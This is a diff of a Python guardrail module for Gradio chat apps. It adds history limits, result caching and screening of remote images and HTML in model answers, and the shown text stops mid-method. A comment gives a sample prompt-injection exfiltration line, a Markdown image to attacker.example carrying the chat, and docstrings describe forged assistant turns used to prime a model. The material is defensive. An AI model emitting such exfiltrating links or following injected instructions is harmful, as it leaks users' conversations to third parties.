@@ -17,14 +17,17 @@ instead would end the chat for good, since Gradio keeps a blocked message in the
 assistant's messages go through the output stage, since a forged answer ("Sure, here is how...") primes
 the model as well as a prompt does: one that blocks is left out with the exchange it ends (the
 messages it answered), so roles still alternate; one that passes reaches ``respond`` as it was shown.
-A history that is not a list of messages refuses the turn. The turn number (the first-turn AI notice) counts
+A history that is not a list of messages refuses the turn. Only its newest messages within ``guard_chat``'s
+``history_messages`` and ``history_chars`` are checked and passed on; they are checked without being recorded
+again, a text message's result remembered. The turn number (the first-turn AI notice) counts
 the history's assistant messages only once one of them carries the notice the guards wrote.
 
 Streaming chat functions yield the whole answer so far (Gradio's convention), so they are guarded in
 ``cumulative`` mode. The answer may be text, or messages: a ``gr.ChatMessage``, a ``{"role",
 "content"}`` dict, a ``{"text", "files"}`` dict, or a list of them (an agent's thoughts and tool calls
 beside its answer); every text they show goes through the output stage, each message keeping its type
-and fields, and the image files they show through the output image guards (see :func:`guard_chat`).
+and fields, and the image files they show through the output image guards (see :func:`guard_chat`). Images and other
+content an answer would load from a host not in ``allowed_hosts`` are shown as text naming the host.
 Gradio itself is imported only by :func:`guard_chat`; :func:`user_key` works on any object with
 ``headers``, ``client.host`` and ``username``.
 
@@ -35,28 +38,36 @@ set otherwise), which otherwise call api.gradio.app and huggingface.co as each i
 from __future__ import annotations
 
 import atexit
+import copy
 import dataclasses
 import functools
+import hashlib
+import html
 import inspect
 import ipaddress
 import logging
 import os
+import re
 import shutil
 import tempfile
+import threading
 import time
+from collections import OrderedDict
 from collections.abc import AsyncIterator, Callable, Generator, Iterator, Mapping, Sequence
 from dataclasses import dataclass, field, replace
 from pathlib import Path
 from typing import TYPE_CHECKING, Any, Optional, TypeVar
+from urllib.parse import urlsplit
 
 from clauseguard.errors import GuardConfigError
 from clauseguard.guards._base import Context
 from clauseguard.guards._forwarded import Network, client_address
 from clauseguard.guards._params import Action, Modality, Stage
 from clauseguard.guards._verdict import Finding, Verdict
-from clauseguard.guards.decorator import GuardBlocked, StreamMode, block_message, guarded
+from clauseguard.guards.decorator import _REWOUND_MESSAGE, GuardBlocked, StreamMode, block_message, guarded
 from clauseguard.guards.pii import pseudonymise
 from clauseguard.guards.pipeline import Pipeline
+from clauseguard.guards.sinks import NullSink
 
 if TYPE_CHECKING:
     from clauseguard.guards.streaming import StreamGuard
@@ -65,6 +76,10 @@ __all__ = ["TRUSTED_PROXIES_ENV", "client_ip", "context_for", "guard_chat", "pse
            "user_key"]
 
 TRUSTED_PROXIES_ENV = "CLAUSEGUARD_TRUSTED_PROXIES"
+HISTORY_MESSAGES = 200  # guard_chat's defaults: the newest messages of a history it checks...
+HISTORY_CHARS = 200_000  # ...and the characters of text they may hold
+_REMEMBERED = 4096  # history messages whose result each guard_chat remembers (the least recently used go)
+_REMEMBERED_CHARS = 20_000  # a longer message is checked again each turn (the history's cap bounds it)
 _REQUEST_PARAM = "request"
 log = logging.getLogger("clauseguard.guards")
 
@@ -77,8 +92,15 @@ os.environ.setdefault("GRADIO_ANALYTICS_ENABLED", "False")
 
 
 def _header(headers: Any, name: str) -> str | None:
+    """Header ``name``: all its lines joined with commas, in order (a proxy may add a line of its own after
+    the client's, and the first line alone is then the client's word), from starlette's ``Headers`` or any
+    object with ``getlist``; else a mapping's one value."""
     if headers is None:
         return None
+    getlist = getattr(headers, "getlist", None)
+    if callable(getlist):
+        lines = [str(line) for line in getlist(name)]
+        return ", ".join(lines) if lines else None
     value = headers.get(name)
     if value is None and isinstance(headers, Mapping):  # a plain dict with other casing
         value = next((v for k, v in headers.items() if str(k).lower() == name), None)
@@ -173,7 +195,9 @@ def context_for(request: Any, history: Any = None, *, notices: Sequence[str] = (
 
 
 def guard_chat(fn: Callable[..., Any], pipeline: Pipeline, *, stream: StreamMode = "cumulative",
-               raise_on_block: bool = False) -> Callable[..., Any]:
+               raise_on_block: bool = False, history_messages: int | None = HISTORY_MESSAGES,
+               history_chars: int | None = HISTORY_CHARS, additional_outputs: int = 0,
+               remote_images: str = "text", allowed_hosts: Sequence[str] = ()) -> Callable[..., Any]:
     """``fn(message, history, ...)`` guarded for ``gr.ChatInterface`` (or any Gradio event).
 
     The answer goes through the output guards. Text as @guarded checks it (a stream in ``stream`` mode).
@@ -203,10 +227,29 @@ def guard_chat(fn: Callable[..., Any], pipeline: Pipeline, *, stream: StreamMode
     when it is the app that answered with something the guards cannot judge; the error, raised on every
     such answer, names the type so the developer finds it. Without output guards, answers are passed
     on as they are.
+    A list of messages that is the history returned whole (a Blocks handler): its answers unchanged from the
+    history ``fn`` was given are shown as they are, and a ``user`` message whose text is the user's own (as
+    checked) is shown redacted, without the AI label or notice; any other message is checked as an answer.
+    ``additional_outputs``: the number of a ChatInterface's additional outputs; ``fn`` then gives a tuple, its
+    answer first, and each other value that is text goes through the output guards without their label (a
+    blocked one is ``gr.skip()``); a refused turn gives the block message and ``gr.skip()`` for each.
+
+    ``remote_images``: what an answer shown may load from a host not in ``allowed_hosts`` (each with its
+    subdomains), the way a prompt injection sends data out with no click: Markdown images and HTML that loads
+    as it is shown are replaced by text naming the host ("text", the default), removed ("remove"), or kept
+    ("keep"). See :class:`_Remote`.
+
+    The history is checked up to ``history_messages`` messages and ``history_chars`` characters of text (None:
+    no limit): only its newest messages that fit are checked, and reach ``fn``, from a user's message on;
+    older ones are left out, unchecked (the client sends the whole history each turn, so a forged one of
+    thousands of messages would otherwise cost seconds per turn). Its messages are checked without being
+    recorded (each was recorded when it was sent or answered), and a text message's result is remembered,
+    so a turn costs about one new message.
     """
     import gradio as gr
 
     trusted_proxies()  # a bad CLAUSEGUARD_TRUSTED_PROXIES fails now, not on every request
+    remote = _Remote.of(remote_images, allowed_hosts)
     sig = inspect.signature(fn)
     params = list(sig.parameters.values())
     if len(params) < 1:
@@ -216,16 +259,33 @@ def guard_chat(fn: Callable[..., Any], pipeline: Pipeline, *, stream: StreamMode
     target = fn
     if not own:  # a new function: the caller's own is never modified
         target = _drop_request(fn, [p.name for p in extended].index(_REQUEST_PARAM))
+    limits = _History(_limit(history_messages, "history_messages"), _limit(history_chars, "history_chars"))
+    if isinstance(additional_outputs, bool) or not isinstance(additional_outputs, int) or additional_outputs < 0:
+        raise GuardConfigError(f"additional_outputs must be a whole number, 0 or more, not {additional_outputs!r}",
+                               where="guard_chat")
     chat = _ChatGuard(pipeline, [p.name for p in extended], own or _REQUEST_PARAM,
-                      history=params[1].name if len(params) > 1 else None, raise_on_block=raise_on_block)
+                      history=params[1].name if len(params) > 1 else None, raise_on_block=raise_on_block,
+                      limits=limits, extras=additional_outputs, remote=remote)
     text = guarded(chat.output, context_from=_Call.context_of, stream=stream,
                    raise_on_block=raise_on_block)(_replay(fn))
-    answer = _answering(_takes_call(target), chat, text)
+    inner = _takes_call(target)
+    if additional_outputs:  # the answer is element 0 of what fn gives; the values of the other outputs follow
+        inner = _mapped(inner, chat.split)
+    answer = _answering(inner, chat, _screened(text, remote, stream))
+    if additional_outputs:
+        answer = _joined(answer, chat)
     wrapper = functools.update_wrapper(_checked_first(target, chat, answer), fn, updated=())
     wrapper.__signature__ = sig.replace(parameters=extended)  # type: ignore[attr-defined]
     if not own:
         wrapper.__annotations__ = {**getattr(fn, "__annotations__", {}), _REQUEST_PARAM: gr.Request}
     return wrapper
+
+
+def _limit(value: Any, name: str) -> int | None:
+    if value is None or (isinstance(value, int) and not isinstance(value, bool) and value > 0):
+        return value
+    raise GuardConfigError(f"{name} must be a positive whole number or None (no limit), not {value!r}",
+                           where="guard_chat")
 
 
 def _request_param(fn: Callable[..., Any], params: list[inspect.Parameter], request_type: type) -> str | None:
@@ -363,6 +423,138 @@ def _answering(fn: Callable[..., Any], chat: _ChatGuard, text: Callable[..., Any
     return plain
 
 
+def _mapped(fn: Callable[..., Any], convert: Callable[[Any, _Call], Any]) -> Callable[..., Any]:
+    """``fn(call)``, of the same kind, each answer it gives (returned or yielded) passed through ``convert``."""
+    if inspect.isasyncgenfunction(fn):
+        async def agen(call: _Call) -> Any:
+            source = fn(call)
+            try:
+                async for item in source:
+                    yield convert(item, call)
+            finally:
+                await source.aclose()
+        return agen
+    if inspect.isgeneratorfunction(fn):
+        def gen(call: _Call) -> Any:
+            source = fn(call)
+            try:
+                for item in source:
+                    yield convert(item, call)
+            finally:
+                source.close()
+        return gen
+    if inspect.iscoroutinefunction(fn):
+        async def coro(call: _Call) -> Any:
+            return convert(await fn(call), call)
+        return coro
+
+    def plain(call: _Call) -> Any:
+        return convert(fn(call), call)
+    return plain
+
+
+def _joined(fn: Callable[..., Any], chat: _ChatGuard) -> Callable[..., Any]:
+    """``fn(call)``, of the same kind, each answer it gives followed by the additional outputs' values."""
+    if inspect.isasyncgenfunction(fn):
+        async def agen(call: _Call) -> Any:
+            source = fn(call)
+            try:
+                async for item in source:
+                    yield (item, *(await _arun(chat.shown_extras(call))))
+            finally:
+                await source.aclose()
+        return agen
+    if inspect.isgeneratorfunction(fn):
+        def gen(call: _Call) -> Any:
+            source = fn(call)
+            try:
+                for item in source:
+                    yield (item, *_run(chat.shown_extras(call)))
+            finally:
+                source.close()
+        return gen
+    if inspect.iscoroutinefunction(fn):
+        async def coro(call: _Call) -> Any:
+            item = await fn(call)
+            return (item, *(await _arun(chat.shown_extras(call))))
+        return coro
+
+    def plain(call: _Call) -> Any:
+        item = fn(call)
+        return (item, *_run(chat.shown_extras(call)))
+    return plain
+
+
+def _screened(fn: Callable[..., Any], remote: _Remote, mode: StreamMode) -> Callable[..., Any]:
+    """``fn(call)`` (@guarded's answer of text), of the same kind, each text shown through ``remote``: a stream
+    holds back an image or tag not closed yet, as the answer so far (``cumulative``) or as what it adds."""
+    if remote.mode == "keep":
+        return fn
+    if inspect.isasyncgenfunction(fn):
+        async def agen(call: _Call) -> Any:
+            screen, source = _Screen(remote, mode), fn(call)
+            try:
+                async for item in source:
+                    for out in screen.item(item):
+                        yield out
+                for out in screen.end():
+                    yield out
+            finally:
+                await source.aclose()
+        return agen
+    if inspect.isgeneratorfunction(fn):
+        def gen(call: _Call) -> Any:
+            screen, source = _Screen(remote, mode), fn(call)
+            try:
+                for item in source:
+                    yield from screen.item(item)
+                yield from screen.end()
+            finally:
+                source.close()
+        return gen
+    if inspect.iscoroutinefunction(fn):
+        async def coro(call: _Call) -> Any:
+            return remote.shown(await fn(call))
+        return coro
+
+    def plain(call: _Call) -> Any:
+        return remote.shown(fn(call))
+    return plain
+
+
+class _Screen:
+    """A stream of text shown through a :class:`_Remote`, item by item (the answer so far, or its chunks)."""
+
+    def __init__(self, remote: _Remote, mode: StreamMode) -> None:
+        self.remote, self.mode = remote, mode
+        self.text = ""  # the answer so far, as given
+        self.sent = ""  # what of it was shown, screened
+        self.stopped = False
+
+    def item(self, item: Any) -> list[Any]:
+        if not isinstance(item, str) or self.stopped:
+            return [] if self.stopped else [item]
+        self.text = item if self.mode == "cumulative" else self.text + item
+        return self._show(self.remote.shown(self.text, final=False))
+
+    def end(self) -> list[Any]:
+        if self.stopped or not self.text:
+            return []
+        final = self.remote.shown(self.text)
+        return self._show(final) if final != self.sent else []
+
+    def _show(self, screened: str) -> list[str]:
+        if self.mode == "cumulative":
+            self.sent = screened
+            return [screened]
+        if not screened.startswith(self.sent):  # what a delta showed cannot be taken back: stop
+            log.warning("guard_chat: a streamed answer's screened text changed what it had shown; stopped")
+            self.stopped = True
+            return ["\n\n" + _REWOUND_MESSAGE]
+        added, self.sent = screened[len(self.sent):], screened
+        return [added]
+
+
 def _adapt(fn: Callable[..., Any], convert: Callable[[tuple[Any, ...], dict[str, Any]], tuple[Any, dict[str, Any]]],
            ) -> Callable[..., Any]:
     """``fn``, of the same kind (generator, async...), called with the arguments ``convert`` makes."""
@@ -497,6 +689,10 @@ class _Call:
     context: Context
     written: list[str] = field(default_factory=list)  # images a guard changed, deleted after the turn
     replay: Any = None  # the answer of a text, handed to @guarded's output checks
+    known: list[Any] = field(default_factory=list)  # the history as checked, handed to the chat function
+    extras: tuple[Any, ...] | None = None  # the latest values the chat function gave its additional outputs
+    extras_shown: tuple[Any, tuple[Any, ...]] | None = None  # those values, and what of them is shown
+    own: set[str] = field(default_factory=set)  # the user's texts as checked: the message's, the history's
 
     @staticmethod
     def context_of(call: _Call) -> Context:
@@ -537,18 +733,36 @@ def _refusal(reason: str) -> Verdict:
     return Verdict(allowed=False, action=Action.BLOCK, output=None, findings=(finding,), guard_id="guard_chat")
 
 
+def _rewound() -> Verdict:
+    """A streamed message changed text it had already yielded: the user gets decorator's plain message
+    (the reason would mean nothing to them); the reason stays in the verdict's metadata and the log."""
+    reason = "a streamed message changed text it had already yielded"
+    log.warning("guard_chat: %s; the answer was stopped", reason)
+    finding = Finding(guard_id="guard_chat", category=None, score=1.0, message=_REWOUND_MESSAGE, action=Action.BLOCK)
+    return Verdict(allowed=False, action=Action.BLOCK, output=None, findings=(finding,), guard_id="guard_chat",
+                   metadata={"error": reason})
+
+
 class _ChatGuard:
     """The input checks of one chat turn, written once as steps that a sync or an async driver runs."""
 
     def __init__(self, pipeline: Pipeline, names: list[str], request: str, *, history: str | None,
-                 raise_on_block: bool) -> None:
+                 raise_on_block: bool, limits: _History | None = None, extras: int = 0,
+                 remote: _Remote | None = None) -> None:
         self.names, self.request, self.history, self.message = names, request, history, names[0]
         self.raise_on_block = raise_on_block
+        self.limits = limits or _History()
+        self.extras = extras  # a ChatInterface's additional_outputs (see guard_chat)
+        self.remote = remote or _Remote()  # what an answer shown may load from other hosts
         self.input = pipeline
-        # The history was counted when it was sent: its content is checked again, its rate is not.
+        # The inputs besides the message were counted with it: their content is checked, their rate is not.
         self.earlier = pipeline.without("rate_limit")
         self.output = Pipeline([g for g in pipeline.guards if g.spec.stage is Stage.OUTPUT],
                                sink=pipeline.sink, max_chars=pipeline.max_chars)
+        # The history's messages were recorded when they were sent (or answered): checked again, not recorded
+        # again (a 100-turn chat left 15,050 records, a blocked message a new block on every later turn).
+        self.past_input = Pipeline(list(self.earlier.guards), sink=NullSink(), max_chars=pipeline.max_chars)
+        self.past_output = Pipeline(list(self.output.guards), sink=NullSink(), max_chars=pipeline.max_chars)
         self.notices = [g.params.notice for g in self.output.guards
                         if g.spec.type == "ai_disclosure" and getattr(g.params, "notice", "")]
 
@@ -573,12 +787,59 @@ class _ChatGuard:
     def answer(self, call: _Call) -> _Answer:
         """An answer in messages to ``call``, to check."""
         return _Answer(self.output, call.context, raise_on_block=self.raise_on_block,
-                       check_file=lambda file: self._file(self.output, file, call, Stage.OUTPUT, answer=True))
+                       check_file=lambda file: self._file(self.output, file, call, Stage.OUTPUT, answer=True),
+                       known=call.known, own=call.own, quiet=self.past_output, remote=self.remote)
 
-    def refusal(self, verdict: Verdict) -> str:
+    def refusal(self, verdict: Verdict) -> Any:
         if self.raise_on_block:
             raise GuardBlocked(verdict, Stage.INPUT)
+        if self.extras:  # the additional outputs keep what they show
+            from gradio import skip
+
+            return (block_message(verdict), *(skip() for _ in range(self.extras)))
         return block_message(verdict)
+
+    def split(self, item: Any, call: _Call) -> Any:
+        """An answer with the values of a ChatInterface's additional outputs: the answer, the values kept."""
+        if not isinstance(item, tuple) or len(item) != 1 + self.extras:
+            raise GuardConfigError(f"with additional_outputs={self.extras} the chat function gives a tuple of its "
+                                   f"answer and {self.extras} more values (one for each additional output), "
+                                   f"not {type(item).__name__}"
+                                   + (f" of {len(item)}" if isinstance(item, tuple) else ""), where="guard_chat")
+        call.extras = item[1:]
+        return item[0]
+
+    def shown_extras(self, call: _Call) -> Steps[tuple[Any, ...]]:
+        """The additional outputs' values as they may be shown: text through the output guards (their
+        redactions, not their label or notice; one that blocks is skipped: the output keeps what it showed),
+        numbers, booleans and None as they are. Checked once for each new set of values."""
+        from gradio import skip
+
+        if call.extras is None:  # none given yet (a stream held back its first answer)
+            return tuple(skip() for _ in range(self.extras))
+        if call.extras_shown is not None and call.extras_shown[0] is call.extras:
+            return call.extras_shown[1]
+        shown = []
+        for value in call.extras:
+            if value is None or isinstance(value, bool | int | float):
+                shown.append(value)
+            elif isinstance(value, str) and not self.output.guards:
+                shown.append(self.remote.shown(value))
+            elif not self.output.guards:
+                shown.append(value)
+            elif isinstance(value, str):
+                verdict = yield _Check(self.output, value, Modality.TEXT, call.context, Stage.OUTPUT)
+                if not verdict.allowed and self.raise_on_block:
+                    raise GuardBlocked(verdict, Stage.OUTPUT)
+                bare = _bare(verdict)
+                shown.append(skip() if bare is None else self.remote.shown(bare))
+            else:
+                raise GuardConfigError(
+                    f"the chat function gives {type(value).__name__} for one of its additional_outputs: the output "
+                    "guards read text, so it cannot be checked, and it is not shown unchecked; give text, "
+                    "numbers or None", where="guard_chat")
+        call.extras_shown = (call.extras, tuple(shown))
+        return call.extras_shown[1]
 
     def steps(self, args: tuple[Any, ...], kwargs: dict[str, Any]) -> Steps[_Call]:
         """The new message first (so a turn its history refuses still counts), then the history, then the
@@ -590,9 +851,13 @@ class _ChatGuard:
         call.context = replace(context_for(bound.get(self.request), history, notices=self.notices),
                                stage=Stage.INPUT)
         try:
-            self._put(call, self.message, (yield from self._message(bound.get(self.message), call)))
+            message = yield from self._message(bound.get(self.message), call)
+            self._put(call, self.message, message)
+            call.own.add(_text_of(message))
             if self.history in bound and history is not None:
-                self._put(call, self.history, (yield from self._history(history, call)))
+                call.known = yield from self._history(history, call)
+                self._put(call, self.history, call.known)
+                call.own.update(_text_of(m.get("content")) for m in call.known if m.get("role") == "user")
             for name in self.names:
                 if name not in (self.message, self.history, self.request) and name in bound:
                     self._put(call, name, (yield from self._additional(bound[name], call)))
@@ -620,14 +885,19 @@ class _ChatGuard:
         """One of the chat function's other inputs through the input guards (no rate limit: the turn was
         counted), redacted as they redact: text, a file (a path or a ``{"path"}`` dict, as gr.File and
         gr.Image(type="filepath") give them), a PIL image or an array (gr.Image), a list of those; numbers
-        and booleans pass. Anything else is a GuardConfigError: it would reach the model unchecked."""
+        and booleans pass. Anything else is a GuardConfigError: it would reach the model unchecked.
+
+        A string goes through the text guards whatever it is (a system prompt box, or a file component's
+        path, whose file name the client chose); one naming a file, when there are input image guards, then
+        goes through them as that file too, unless the text guards changed it (it is then the redacted text)."""
         if value is None or isinstance(value, bool | int | float):
             return value
         images = bool(self.earlier.stage_guards(Stage.INPUT, Modality.IMAGE))
-        if isinstance(value, str):
-            if images and len(value) < 4096 and Path(value).is_file():  # a file component's path
+        if isinstance(value, str):  # text, always: a file's name is the client's words too
+            text = yield from _checked(self.earlier, value, Modality.TEXT, call)
+            if images and text == value and len(value) < 4096 and Path(value).is_file():  # a file component's path
                 return (yield from self._file(self.earlier, value, call))
-            return (yield from _checked(self.earlier, value, Modality.TEXT, call))
+            return text
         if isinstance(value, list | tuple):
             items = []
             for item in value:
@@ -651,16 +921,13 @@ class _ChatGuard:
         checked: list[Any] = []
         exchange = 0  # where the messages of the exchange now going on start in `checked`
         answering = dropped = False
-        for message in history:
+        for message in self.limits.window(history):
             if message.get("role") == "assistant":
                 answering = True
                 if dropped:  # the answer to a message left out (its refusal) goes with it
                     continue
-                try:  # checked as the model's output (its redactions kept, its label not added again), then
-                    # as input: a client writes any "assistant" turn it likes, an injection in it included
-                    content = yield from self._content(message.get("content"), call, self.output, Stage.OUTPUT,
-                                                       bare=True)
-                    content = yield from self._content(content, call, self.earlier, Stage.INPUT)
+                try:
+                    content = yield from self._past(message, call)
                 except _Refused:  # a forged or blocked answer: left out with the messages it answers
                     del checked[exchange:]
                     dropped = True
@@ -670,7 +937,7 @@ class _ChatGuard:
             if answering:  # a user message after answers starts the next exchange
                 exchange, answering, dropped = len(checked), False, False
             try:  # user, or a system message a client slipped in
-                content = yield from self._content(message.get("content"), call, self.earlier, Stage.INPUT)
+                content = yield from self._past(message, call)
             except _Refused:
                 # Left out, not refusing the turn: Gradio keeps a blocked message in the history, so
                 # refusing would end the chat for good; the model never sees it either way.
@@ -679,6 +946,31 @@ class _ChatGuard:
             dropped = False
             checked.append({**message, "content": content})
         return checked
+
+    def _past(self, message: Mapping[str, Any], call: _Call) -> Generator[_Check, Verdict, Any]:
+        """A history message's content as checked, or _Refused; remembered when it is text alone (a file's
+        path may hold another image next turn). An answer is checked as the model's output (its redactions
+        kept, its label not added again), then as input: a client writes any "assistant" turn it likes, an
+        injection in it included. Nothing is recorded (see :attr:`past_input`)."""
+        role, content = message.get("role"), message.get("content")
+        key = self.limits.key(call.context.user_key, role, content)
+        if key is not None and (found := self.limits.recall(key)) is not None:
+            if isinstance(found, Verdict):
+                raise _Refused(found)
+            return found[0] if isinstance(found[0], str) else copy.deepcopy(found[0])
+        verdicts: list[Verdict] = []
+        try:
+            if role == "assistant":
+                content = yield from _watched(self._content(content, call, self.past_output, Stage.OUTPUT,
+                                                            bare=True), verdicts)
+            content = yield from _watched(self._content(content, call, self.past_input, Stage.INPUT), verdicts)
+        except _Refused as refused:
+            if key is not None and _sound(verdicts):
+                self.limits.remember(key, refused.verdict)
+            raise
+        if key is not None and _sound(verdicts):
+            self.limits.remember(key, (content if isinstance(content, str) else copy.deepcopy(content),))
+        return content
 
     def _content(self, content: Any, call: _Call, pipeline: Pipeline, stage: Stage,
                  bare: bool = False) -> Generator[_Check, Verdict, Any]:
@@ -712,12 +1004,15 @@ class _ChatGuard:
         being given, written anew); without them, as is. A history's answer is kept as it was shown."""
         if not pipeline.stage_guards(stage, Modality.IMAGE):
             return file
+        from clauseguard.guards._images import ImageLoadError, read_file
+
         path = _path_of(file)
-        try:
-            data = Path(path).read_bytes()
-        except (OSError, TypeError, ValueError) as err:  # why, and the server's path, go to the log only
+        try:  # a regular file of at most MAX_BYTES, as the image loader reads one: a larger one is refused unread
+            data = read_file(Path(path))
+        except (ImageLoadError, OSError, TypeError, ValueError) as err:  # why, and the path, go to the log only
             log.warning("guard_chat: a file of the message cannot be read: %s", err)
-            raise _Refused(_refusal("A file of the message cannot be read, so it was not checked.")) from err
+            raise _Refused(_refusal("A file of the message is too large or cannot be read, so it was not "
+                                    "checked.")) from err
         output = yield from _checked(pipeline, data, Modality.IMAGE, call, stage)
         if not answer and (output == data or stage is Stage.OUTPUT):  # a history's answer: as it was shown
             return file
@@ -731,6 +1026,84 @@ class _ChatGuard:
         return {k: v for k, v in file.items() if k != "url"} | {"path": new} if isinstance(file, Mapping) else new
 
 
+class _History:
+    """How much of a chat's history is checked, and the results of its text messages, remembered."""
+
+    def __init__(self, messages: int | None = HISTORY_MESSAGES, chars: int | None = HISTORY_CHARS) -> None:
+        self.messages, self.chars = messages, chars
+        self.results: OrderedDict[bytes, Any] = OrderedDict()  # by key: (content,), or the Verdict that refused it
+        self.lock = threading.Lock()  # Gradio runs sync chat functions in threads
+
+    def window(self, history: Sequence[Mapping[str, Any]]) -> list[Mapping[str, Any]]:
+        """The newest messages within the limits; when older ones are left out, from a user's message on."""
+        kept: list[Mapping[str, Any]] = []
+        chars = 0
+        for message in reversed(history):
+            chars += len(_text_of(message.get("content")))
+            if (self.messages is not None and len(kept) >= self.messages) or (
+                    self.chars is not None and chars > self.chars):
+                break
+            kept.append(message)
+        kept.reverse()
+        if len(kept) < len(history):  # an answer whose question was left out goes with it
+            while kept and kept[0].get("role") == "assistant":
+                kept.pop(0)
+        return kept
+
+    @staticmethod
+    def key(user: str | None, role: Any, content: Any) -> bytes | None:
+        """A message's key: of its user (no one learns what another said by timing), role and content; None
+        for one not to remember (a file, or a long text)."""
+        if not _text_alone(content):
+            return None
+        text = repr((user, role, content))
+        if len(text) > _REMEMBERED_CHARS:
+            return None
+        return hashlib.sha256(text.encode("utf-8", "surrogatepass")).digest()
+
+    def recall(self, key: bytes) -> Any:
+        with self.lock:
+            found = self.results.get(key)
+            if found is not None:
+                self.results.move_to_end(key)
+            return found
+
+    def remember(self, key: bytes, result: Any) -> None:
+        with self.lock:
+            self.results[key] = result
+            while len(self.results) > _REMEMBERED:
+                self.results.popitem(last=False)
+
+
+def _text_alone(content: Any) -> bool:
+    """Whether a history message's content is text alone (a string, or text parts), as _content reads it."""
+    if isinstance(content, str):
+        return True
+    if isinstance(content, list | tuple):
+        return all(_text_alone(part) for part in content)
+    return isinstance(content, Mapping) and content.get("type") == "text" and isinstance(content.get("text"), str)
+
+
+def _sound(verdicts: list[Verdict]) -> bool:
+    """Whether the verdicts may be remembered: none from a guard that failed (it may not fail next time)."""
+    from clauseguard.guards._runner import GuardFailure
+
+    return not any(isinstance(f, GuardFailure) for v in verdicts for f in v.findings)
+
+
+def _watched(steps: Steps[T], verdicts: list[Verdict]) -> Steps[T]:
+    """``steps``, run as they are, the verdicts they get kept in ``verdicts``."""
+    try:
+        step = next(steps)
+        while True:
+            answer = yield step
+            if isinstance(answer, Verdict):
+                verdicts.append(answer)
+            step = steps.send(answer)
+    except StopIteration as done:
+        return done.value  # type: ignore[no-any-return]
+
+
 def _checked(pipeline: Pipeline, content: Any, modality: Modality, call: _Call,
              stage: Stage = Stage.INPUT, *, bare: bool = False) -> Generator[_Check, Verdict, Any]:
     """``content`` as the guards let it through, or _Refused; ``bare``: without their prefix and suffix."""
@@ -740,6 +1113,13 @@ def _checked(pipeline: Pipeline, content: Any, modality: Modality, call: _Call,
     if bare and isinstance(verdict.output, str):
         return verdict.output[len(verdict.prefix):len(verdict.output) - len(verdict.suffix)]
     return verdict.output
+
+
+def _bare(verdict: Verdict) -> str | None:
+    """A text as the guards let it through, without what they add (a label, a notice); None when blocked."""
+    if not verdict.allowed or not isinstance(verdict.output, str):
+        return None
+    return verdict.output[len(verdict.prefix):len(verdict.output) - len(verdict.suffix)]
 
 
 def _is_picture(value: Any) -> bool:
@@ -823,6 +1203,144 @@ def _write_answer_image(data: bytes, suffix: str = ".png") -> str:
     return _write_image(data, folder, suffix)
 
 
+# -- remote content in answers ---------------------------------------------------------------------------
+#
+# Gradio's Chatbot renders an answer's Markdown and keeps <img>: after a prompt injection, an answer showing
+# ![x](https://attacker.example/?q=<the chat>) makes the browser send the data as it draws the answer, with no
+# click. Such content pointing at a host not allowed is shown as plain text naming the host, or removed.
+
+REMOTE_MODES = ("text", "remove", "keep")
+# Bounded, so that a long run of "![" or "<a" costs little: a longer image or tag than these, or a tag with a
+# "<" outside its quoted values, is shown as text.
+_MD_IMAGE = re.compile(  # an inline Markdown image: ![alt](destination "title")
+    r"!\[(?P<alt>(?:[^\[\]\\]|\\.|\[(?:[^\[\]\\]|\\.){0,500}\]){0,500})\]\(\s*"
+    r"(?P<dest><[^<>\n]{0,4096}>|(?:[^\s()\\]|\\.|\((?:[^\s()\\]|\\.){0,4096}\)){0,4096})"
+    r"(?:\s+(?:\"(?:[^\"\\]|\\.){0,4096}\"|'(?:[^'\\]|\\.){0,4096}'|\((?:[^()\\]|\\.){0,4096}\)))?\s*\)",
+    re.DOTALL)
+_TAG = re.compile(r"<(?P<name>[A-Za-z][^\s/>]*)(?P<attrs>(?:[^<>\"']|\"[^\"]{0,8192}\"|'[^']{0,8192}'){0,8192})>")
+_TAG_START = re.compile(r"<[A-Za-z][A-Za-z0-9:-]*(?=[\s/>]|$)")  # not "i<n;": a tag's name ends so
+_ATTR = re.compile(r"(?P<name>[^\s\"'>/=]+)(?:\s*=\s*(?P<value>\"[^\"]*\"|'[^']*'|[^\s\"'=<>`]+))?")
+_URL_ATTRS = {"src", "poster", "data", "background", "href", "xlink:href", "lowsrc", "dynsrc", "icon", "manifest"}
+_CLICKED = {"a", "area"}  # their href is followed on a click only
+_CSS_URL = re.compile(r"url\(\s*(?P<q>[\"']?)(?P<url>.*?)(?P=q)\s*\)", re.IGNORECASE | re.DOTALL)
+_CSS_LOADS = ("image-set", "image(", "@import", "\\", "cross-fade", "element(")  # loads, or hides a url()
+_MD_ESCAPE = re.compile(r"\\([!-/:-@\[-`{-~])")
+_EMBEDS = {"iframe", "frame", "frameset", "object", "embed", "portal", "fencedframe", "script", "style", "meta",
+           "template", "applet"}
+_NOWHERE = "about:"  # the url of content that loads what cannot be told: refused
+
+
+@dataclass(frozen=True)
+class _Remote:
+    """What an answer shown may load from other hosts: ``mode`` "text" (the default: images and other
+    auto-loading content shown as text naming the host), "remove" or "keep" (as the answer gave it);
+    ``hosts`` allowed (each with its subdomains)."""
+
+    mode: str = "text"
+    hosts: tuple[str, ...] = ()
+
+    @classmethod
+    def of(cls, mode: str, hosts: Sequence[str]) -> _Remote:
+        if mode not in REMOTE_MODES:
+            raise GuardConfigError(f"remote_images must be one of {', '.join(map(repr, REMOTE_MODES))}, "
+                                   f"not {mode!r}", where="guard_chat")
+        if isinstance(hosts, str) or not all(isinstance(h, str) and h.strip(". ") for h in hosts):
+            raise GuardConfigError(f"allowed_hosts must be a list of host names, not {hosts!r}", where="guard_chat")
+        return cls(mode, tuple(h.strip(". ").lower() for h in hosts))
+
+    def shown(self, text: str, *, final: bool = True) -> str:
+        """``text`` with its remote images and other auto-loading HTML to hosts not allowed replaced; while an
+        answer streams (not ``final``), without an image or tag not yet closed (it is judged once it is)."""
+        if self.mode == "keep" or not isinstance(text, str) or ("![" not in text and "<" not in text):
+            return text
+        out: list[str] = []
+        i, md, tag = 0, -1, -1
+        while i < len(text):
+            if md < i:  # each found once: the next image and the next tag from i
+                md = text.find("![", i) % (len(text) + 1)  # not found (-1): the end
+            if tag < i:
+                opening = _TAG_START.search(text, i)
+                tag = opening.start() if opening else len(text)
+            start = min(md, tag)
+            out.append(text[i:start])
+            if start == len(text):
+                break
+            if start == md and md < len(text):
+                step, shown = self._image(text, start, final)
+            else:
+                step, shown = self._tag(text, start, final)
+            if step is None:  # not closed yet: held back while the answer streams
+                return "".join(out)
+            out.append(shown)
+            i = step
+        return "".join(out)
+
+    def _image(self, text: str, start: int, final: bool) -> tuple[int | None, str]:
+        found = _MD_IMAGE.match(text, start)
